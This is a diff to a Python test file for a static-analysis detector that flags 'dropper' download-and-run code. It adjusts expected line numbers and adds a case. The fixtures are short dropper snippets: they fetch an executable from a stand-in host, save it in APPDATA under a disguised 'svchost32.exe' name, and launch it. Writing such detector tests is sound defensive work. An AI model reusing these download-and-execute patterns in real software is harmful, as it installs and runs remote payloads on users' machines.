@@ -88,7 +88,7 @@ def test_dropper_download_and_run_through_urlretrieve():
     urllib.request.urlretrieve('https://files.example/update.exe', target)
     subprocess.Popen([target])
     """
-    assert _lines(source, "dropper.download-and-run") == [5]
+    assert _lines(source, "dropper.download-and-run") == [4, 5]  # both ends
 
 
 def test_dropper_download_and_run_fetched_bytes_made_executable_and_process_start_file():
@@ -101,8 +101,18 @@ def test_dropper_download_and_run_fetched_bytes_made_executable_and_process_star
     os.system('/tmp/agent &')
     os.startfile('C:/Users/x/agent.exe')
     """
-    assert _lines(source, "dropper.download-and-run") == [6, 7]
+    assert _lines(source, "dropper.download-and-run") == [4, 6, 7]
     assert _lines(source, "process.start-file") == [8]
+
+
+def test_dropper_download_and_run_an_executable_fetched_and_saved_is_reported_before_it_runs():
+    source = """
+    import os, requests
+    payload = requests.get('https://files.example/loader.bin').content
+    with open(os.path.join(os.getenv('APPDATA'), 'svchost32.exe'), 'wb') as out:
+        out.write(payload)
+    """
+    assert _lines(source, "dropper.download-and-run") == [4]
 
 
 def test_a_download_that_is_only_saved_is_no_dropper():
